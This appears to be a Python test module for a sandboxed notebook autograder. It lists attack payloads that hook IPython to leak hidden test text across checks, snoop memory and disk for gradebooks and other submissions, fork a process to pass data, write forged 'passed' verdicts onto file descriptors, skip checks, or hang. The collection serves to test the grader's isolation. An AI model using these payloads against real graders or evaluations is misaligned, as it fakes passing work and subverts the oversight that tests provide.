"""Attacks on checks that visit, which run where the learner's code has run.

Each function returns the answer to ``total`` in the small set with two hidden checks more, both at
the level *visiting*; the other answers are right, and earn 7 points. ``FORGED`` says what the
visiting checks give without its being earned: they are in the hands of the code that they visit.
"""

import json

from tests.sandbox.sealedset import RIGHT
from tests.sandbox.visits import at_level, handed_in, visiting_set

EARNED = 7
FORGED = {
    "run_nothing_in_the_place_of_the_check": 4,
    "equal_to_everything_for_a_visitor": 4,
    "verdicts_of_its_own_when_visited": 4,
}
WORDS = ("heliotrope", "amaranth")
"""What stands in the text of the one visiting check, and in that of the other."""
_HIDDEN = "### BEGIN HIDDEN TESTS\nassert total == 1770, {!r}\n### END HIDDEN TESTS"
_CHECKS = [
    at_level("visiting", name, _HIDDEN.format(word))
    for name, word in zip(("first", "second"), WORDS, strict=True)
]
# Wraps what runs a cell. ``visited`` is whether the text is one of the two checks', and ``other``
# the word of the other one, which no process is to have seen in which this check runs.
_HOOK = """
import gc, json, mmap, os, pathlib, socket, struct, sys, tempfile
shared, (reads, writes) = mmap.mmap(-1, 4096), os.pipe()
os.set_blocking(reads, False)
shell, total = get_ipython(), None
run = type(shell).run_cell
words = 'helio' + 'trope', 'amar' + 'anth'
places = [pathlib.Path('left.txt'), pathlib.Path(tempfile.gettempdir(), 'left.txt'),
          pathlib.Path('/dev/shm/left.txt')]
def everywhere():
    found = [bytes(shared[:])]
    for place in places:
        if place.exists():
            found.append(place.read_bytes())
    try:
        found.append(os.read(reads, 4096))
    except BlockingIOError:
        pass
    return b' '.join(found)

def act(text, visited, other):
{act}
    return text

def wrapped(self, text, *more, **named):
    visited = any(word in text for word in words)
    return run(self, act(text, visited, words[words[0] in text]), *more, **named)

type(shell).run_cell = wrapped
"""


def _hook(act):
    lines = act.strip("\n").splitlines()
    return _HOOK.replace("{act}", "\n".join(f"    {line}" for line in lines))


def leave_the_text_of_a_check_for_the_next_one():
    """Family 1: leave a check's text in files, shared memory and a pipe for the next check."""
    return _hook("""
if other.encode() in everywhere():
    shell.user_ns['total'] = 1770
if visited:
    shared[:len(text.encode())] = text.encode()
    os.write(writes, text.encode())
    for place in places:
        try:
            place.write_text(text)
        except OSError:
            pass""")


def search_memory_and_disk_for_what_others_wrote():
    """Family 1: search memory and disk for another check, the gradebook and other learners."""
    return _hook("""
texts = [one for one in gc.get_objects() if type(one) in (dict, list)]
known = repr([list(one.values()) if type(one) is dict else one for one in texts[-20000:]])
names = [str(path) for path in pathlib.Path('/').glob('*/*')]
if other in known or any('gradebook' in name or 'submitted' in name for name in names):
    shell.user_ns['total'] = 1770""")


def keep_the_text_of_a_check_in_a_process():
    """Family 1: leave a process behind that tells the next check what this one was about."""
    return _hook("""
if not visited:
    return text
name = chr(0) + 'kept-by-a-process'
try:
    with socket.socket(socket.AF_UNIX) as asks:
        asks.settimeout(1)
        asks.connect(name)
        if other.encode() in asks.recv(4096):
            shell.user_ns['total'] = 1770
except OSError:
    keeps = socket.socket(socket.AF_UNIX)
    keeps.bind(name)
    keeps.listen()
    keeps.settimeout(2)
    if os.fork() == 0:
        try:
            os.setsid()
            keeps.accept()[0].send(text.encode())
        finally:
            os._exit(0)""")


def show_the_text_of_a_check_on_the_page():
    """Family 1: print, display and raise the text of a check, for the page and for the next try."""
    return _hook("""
if visited:
    print(text)
    print(text, file=sys.stderr)
    get_ipython().display_pub.publish({'text/plain': text})
    return 'raise RuntimeError(' + repr(text) + ')'""")


def run_nothing_in_the_place_of_the_check():
    """Family 3: run nothing in the place of the check that visits."""
    return _hook("text = 'pass' if visited else text")


def equal_to_everything_for_a_visitor():
    """Family 3: answer with an object that equals everything."""
    return (
        "class Same:\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = object.__hash__\n\ntotal = Same()"
    )


def more_than_a_visitor_may_give():
    """Family 3: let a check that visits show a number above its points."""
    return _hook("text = '1000.0' if visited else text")


def verdicts_of_its_own_when_visited():
    """Family 3: write verdicts on all checks onto every open descriptor once a check visits."""
    return _hook("""
body = json.dumps([{"outcome": "passed", "score": 9, "ok": True, "outputs": []}, []]).encode()
body = struct.pack("<II", len(body), 0) + body
for fd in range(3, 40) if visited else ():
    os.set_blocking(fd, False) if os.path.exists(f'/proc/self/fd/{fd}') else None
    for n in range(20):
        try:
            os.write(fd, struct.pack("<I", len(body)) + body)
        except OSError:
            break""")


def no_end_when_visited():
    """Family 5: go on without an end when a check visits, whatever interrupts it."""
    return _hook("""
while visited:
    try:
        while True:
            pass
    except BaseException:
        pass""")


def visited_set():
    """Return the instructor's notebook of the small set with the two visiting checks."""
    return json.loads(json.dumps(visiting_set(*_CHECKS)))


def submitted(code, extra=()):
    """Return the files of a submission in which ``code`` answers ``total``."""
    return handed_in(visited_set(), extra, **{**RIGHT, "total": code})


ATTACKS = [
    leave_the_text_of_a_check_for_the_next_one,
    search_memory_and_disk_for_what_others_wrote,
    keep_the_text_of_a_check_in_a_process,
    show_the_text_of_a_check_on_the_page,
    run_nothing_in_the_place_of_the_check,
    equal_to_everything_for_a_visitor,
    more_than_a_visitor_may_give,
    verdicts_of_its_own_when_visited,
    no_end_when_visited,
]
